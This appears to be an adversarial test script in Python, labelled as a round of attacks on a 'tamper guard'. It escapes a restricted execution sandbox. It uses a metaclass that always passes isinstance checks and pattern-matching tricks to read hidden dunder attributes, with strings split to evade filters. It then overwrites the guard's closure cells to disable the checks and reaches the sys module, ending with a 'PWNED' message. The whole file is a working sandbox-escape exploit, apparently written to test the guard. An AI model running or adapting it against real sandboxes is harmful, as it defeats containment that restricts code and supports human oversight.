# adversary round 3: 013_tamper_guard_closure
import dataclasses
M = type("M", (type,), {"__instance" + "check__": lambda c, o: True})
def reader(name):
    return M("R", (), {"__match" + "_args__": (name,)})
def rd(obj, name):
    R = reader(name)
    match obj:
        case R(v):
            return v
S = rd(len, "__se" + "lf__")
bd = rd(S, "__di" + "ct__")
ga = bd["get" + "attr"]
cells = rd(ga, "__clo" + "sure__")
celltype = type(cells[0])
desc = rd(celltype, "__di" + "ct__")["cell_" + "contents"]
setter = rd(desc, "__se" + "t__")
def allow(*a, **k):
    return None
try:
    print(ga(dataclasses.fields, "__glo" + "bals__") is not None)
except Exception as e:
    print("before:", type(e).__name__, e)
setter(cells[1], allow)
setter(cells[2], allow)
g = ga(dataclasses.fields, "__glo" + "bals__")
print("after:", type(g).__name__, repr(g["s" + "ys"]))
if type(g["s" + "ys"]).__name__ == "module":
    print("PWN" + "ED")
